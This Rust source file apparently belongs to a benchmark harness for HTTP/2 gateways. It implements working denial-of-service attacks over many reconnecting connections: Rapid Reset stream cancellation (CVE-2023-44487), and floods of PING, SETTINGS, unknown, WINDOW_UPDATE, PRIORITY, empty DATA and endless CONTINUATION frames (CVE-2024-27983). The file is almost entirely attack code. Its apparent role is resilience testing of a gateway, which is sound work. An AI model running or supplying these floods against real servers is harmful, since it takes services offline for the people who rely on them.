//! Connections of HTTP/2 whose frames cost a client nothing.

use std::sync::Arc;

use gatewright_benchmarks::client::Anyhow;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::attacker::{Attacker, Tasks};

const CONNECTIONS: usize = 16;
/// The frames, or streams, that are sent at once.
const AT_ONCE: usize = 1_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xfa;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET http://a/`, compressed.
const GET: &[u8] = b"\x82\x86\x84\x01\x01a";
/// The error code by which a client cancels a stream.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Opens streams and resets each at once (CVE-2023-44487).
pub(crate) fn reset_streams(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
    for _ in 0..CONNECTIONS {
        tasks.spawn(send(Arc::clone(attacker), "streams", |stream| {
            let begun = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
            [begun, frame(RESET, 0, stream, &CANCEL)].concat()
        }));
    }
}

/// Sends frames that must be answered, or do nothing at all, and a head that has no end
/// (CVE-2024-27983 and others of that year).
pub(crate) fn flood(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
    const FLOODS: [fn(u32) -> Vec<u8>; 7] = [
        |_| frame(PING, 0, 0, &[0; 8]),
        |_| frame(SETTINGS, 0, 0, &[]),
        |_| frame(UNKNOWN, 0, 0, &[]),
        |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
        |stream| match stream {
            1 => frame(HEADERS, END_HEADERS, 1, GET),
            _ => frame(DATA, 0, 1, &[]),
        },
        |stream| match stream {
            1 => frame(HEADERS, END_STREAM, 1, GET),
            _ => frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
        },
    ];
    for flood in FLOODS.iter().cycle().take(CONNECTIONS) {
        tasks.spawn(send(Arc::clone(attacker), "frames", *flood));
    }
}

/// Sends what is built for one client's stream after the other, until the server ends the connection;
/// then begins again.
async fn send(
    attacker: Arc<Attacker>,
    counted: &'static str,
    build: fn(u32) -> Vec<u8>,
) -> Anyhow<()> {
    loop {
        let mut stream = attacker.connect().await;
        let (mut reader, mut writer) = stream.split();
        let write = async {
            writer.write_all(PREFACE).await?;
            let mut numbers = (1..).step_by(2);
            loop {
                let some = numbers.by_ref().take(AT_ONCE).flat_map(build);
                writer.write_all(&some.collect::<Vec<u8>>()).await?;
                attacker.count_many(counted, AT_ONCE);
            }
        };
        let read = async {
            let mut said = vec![0; 65_536];
            while reader.read(&mut said).await? > 0 {}
            Ok::<(), std::io::Error>(())
        };
        let ended: std::io::Result<()> =
            tokio::select! { ended = write => ended, ended = read => ended };
        attacker.pause(if ended.is_err() { "reset" } else { "closed" }).await;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // No payload is longer than a byte says.
    let length = u8::try_from(payload.len()).unwrap_or(u8::MAX);
    let mut bytes = vec![0, 0, length, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
